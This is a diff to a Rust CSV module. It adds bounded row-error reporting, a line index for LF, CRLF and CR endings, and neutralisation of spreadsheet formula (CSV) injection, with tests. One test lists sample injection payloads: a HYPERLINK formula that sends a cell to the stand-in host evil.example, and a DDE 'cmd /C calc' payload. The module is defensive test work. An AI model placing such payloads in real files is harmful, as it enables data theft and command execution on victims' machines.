@@ -1,4 +1,10 @@
-//! CSV formats shared by the seed, the import and the export.
+//! CSV formats shared by the seed, the import and the export, and the rules every CSV file
+//! of ours keeps: cells a spreadsheet would run as formulas are neutralised on the way out and
+//! restored on the way in ([`spreadsheet_safe`], [`from_spreadsheet_safe`]); bad rows are
+//! reported under the line they start on ([`LineIndex`]), and at most [`MAX_REPORTED_ERRORS`]
+//! of them are kept ([`RowErrors`]).
+
+use std::borrow::Cow;
 
 pub mod ratifications;
 
@@ -13,5 +19,204 @@ pub struct RowError {
 impl std::fmt::Display for RowError {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
         write!(f, "line {}, column {}: {}", self.line, self.column, self.message)
+    }
+}
+
+/// Errors kept (and answered) for one file; the rest are counted.
+pub const MAX_REPORTED_ERRORS: usize = 1000;
+/// Characters of one error's message kept (a message may quote a field of the file).
+pub const MAX_MESSAGE_CHARS: usize = 300;
+
+/// The errors of one file: the [`MAX_REPORTED_ERRORS`] with the lowest line numbers, and how
+/// many there were in all. Memory stays bounded whatever the file holds.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct RowErrors {
+    kept: Vec<RowError>,
+    total: usize,
+}
+
+impl RowErrors {
+    pub fn push(&mut self, mut error: RowError) {
+        self.total += 1;
+        if error.message.chars().count() > MAX_MESSAGE_CHARS {
+            error.message = error.message.chars().take(MAX_MESSAGE_CHARS).collect::<String>() + "…";
+        }
+        self.kept.push(error);
+        if self.kept.len() >= 2 * MAX_REPORTED_ERRORS {
+            self.keep_lowest();
+        }
+    }
+
+    fn keep_lowest(&mut self) {
+        self.kept.sort_by_key(|e| e.line);
+        self.kept.truncate(MAX_REPORTED_ERRORS);
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.total == 0
+    }
+
+    /// Every error found, kept or not.
+    pub fn total(&self) -> usize {
+        self.total
+    }
+
+    /// Errors found but not kept.
+    pub fn omitted(&self) -> usize {
+        self.total - self.kept.len().min(MAX_REPORTED_ERRORS)
+    }
+
+    /// The kept errors, by line.
+    pub fn into_sorted(mut self) -> Vec<RowError> {
+        self.keep_lowest();
+        self.kept
+    }
+
+    /// The kept errors, by line.
+    pub fn sorted(&self) -> Vec<RowError> {
+        self.clone().into_sorted()
+    }
+}
+
+/// Where each line of a file starts, so that a record's byte offset gives the line it starts
+/// on. A line ends at LF, at CRLF or at a lone CR, as RFC 4180 files and spreadsheets write
+/// them. (The `csv` crate's own line count is off by one per record for CRLF files,
+/// BurntSushi/rust-csv#395; its byte offsets are right.)
+#[derive(Debug, Clone)]
+pub struct LineIndex {
+    starts: Vec<usize>,
+}
+
+impl LineIndex {
+    pub fn new(bytes: &[u8]) -> LineIndex {
+        let mut starts = vec![0];
+        let mut i = 0;
+        while i < bytes.len() {
+            match bytes[i] {
+                b'\n' => starts.push(i + 1),
+                b'\r' if bytes.get(i + 1) == Some(&b'\n') => {
+                    starts.push(i + 2);
+                    i += 1;
+                }
+                b'\r' => starts.push(i + 1),
+                _ => {}
+            }
+            i += 1;
+        }
+        LineIndex { starts }
+    }
+
+    /// The line (from 1) that byte `offset` is on.
+    pub fn line_of(&self, offset: u64) -> u64 {
+        let offset = usize::try_from(offset).unwrap_or(usize::MAX);
+        self.starts.partition_point(|start| *start <= offset) as u64
+    }
+}
+
+/// Whether a spreadsheet would read `cell` as a formula (OWASP CSV injection): it begins
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return. A number or an ISO date that begins
+/// with `-` is data, not a formula, and is left as it is.
+fn runs_as_formula(cell: &str) -> bool {
+    let Some(first) = cell.chars().next() else {
+        return false;
+    };
+    if !matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r') {
+        return false;
+    }
+    first != '-' || !(is_number(&cell[1..]) || is_date(&cell[1..]))
+}
+
+fn is_number(s: &str) -> bool {
+    let (whole, fraction) = s.split_once('.').unwrap_or((s, "0"));
+    !whole.is_empty()
+        && !fraction.is_empty()
+        && whole.bytes().all(|b| b.is_ascii_digit())
+        && fraction.bytes().all(|b| b.is_ascii_digit())
+}
+
+fn is_date(s: &str) -> bool {
+    let parts: Vec<&str> = s.split('-').collect();
+    matches!(parts.as_slice(), [y, m, d] if y.len() >= 4 && m.len() == 2 && d.len() == 2
+        && parts.iter().all(|p| p.bytes().all(|b| b.is_ascii_digit())))
+}
+
+/// A cell as it is written to a CSV file: prefixed with `'` when a spreadsheet would run it
+/// as a formula. A cell that already begins with `'`s before such a character gets one more,
+/// so that [`from_spreadsheet_safe`] gives back exactly what was written.
+pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
+    if runs_as_formula(cell.trim_start_matches('\'')) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// A cell as read from a CSV file: the `'` that [`spreadsheet_safe`] added is taken off.
+pub fn from_spreadsheet_safe(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if runs_as_formula(rest.trim_start_matches('\'')) => rest,
+        _ => cell,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    #[test]
+    fn neutralises_formulas_but_keeps_negative_numbers_and_dates() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
+            "+cmd|' /C calc'!A0",
+            "@SUM(1)",
+            "-2+3",
+            "\tlead",
+            "\rlead",
+        ] {
+            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
+        }
+        for data in ["-12", "-3.5", "-2019-07-05", "C087", "", "a=b", "'quoted"] {
+            assert_eq!(spreadsheet_safe(data), data);
+        }
+        assert_eq!(spreadsheet_safe("'=x"), "''=x");
+    }
+
+    #[test]
+    fn line_index_counts_lf_crlf_and_cr() {
+        let lf = LineIndex::new(b"a\nb\nc");
+        assert_eq!((lf.line_of(0), lf.line_of(2), lf.line_of(4)), (1, 2, 3));
+        let crlf = LineIndex::new(b"a\r\nb\r\nc");
+        assert_eq!((crlf.line_of(0), crlf.line_of(3), crlf.line_of(6)), (1, 2, 3));
+        let cr = LineIndex::new(b"a\rb\rc");
+        assert_eq!((cr.line_of(2), cr.line_of(4)), (2, 3));
+    }
+
+    #[test]
+    fn keeps_the_lowest_lines_and_counts_the_rest() {
+        let mut errors = RowErrors::default();
+        for line in (1..=5000u64).rev() {
+            errors.push(RowError {
+                line,
+                column: "c".into(),
+                message: "x".repeat(1000),
+            });
+        }
+        assert_eq!(errors.total(), 5000);
+        assert_eq!(errors.omitted(), 4000);
+        let kept = errors.into_sorted();
+        assert_eq!(kept.len(), MAX_REPORTED_ERRORS);
+        assert_eq!(kept[0].line, 1);
+        assert_eq!(kept[999].line, 1000);
+        assert!(kept[0].message.chars().count() <= MAX_MESSAGE_CHARS + 1);
+    }
+
+    proptest! {
+        #[test]
+        fn a_safe_cell_reads_back_unchanged_and_never_runs(cell in "['=+@\\-\t\r a-z0-9.]{0,12}") {
+            let safe = spreadsheet_safe(&cell);
+            prop_assert!(!runs_as_formula(&safe));
+            prop_assert_eq!(from_spreadsheet_safe(&safe), cell.as_str());
+        }
     }
 }
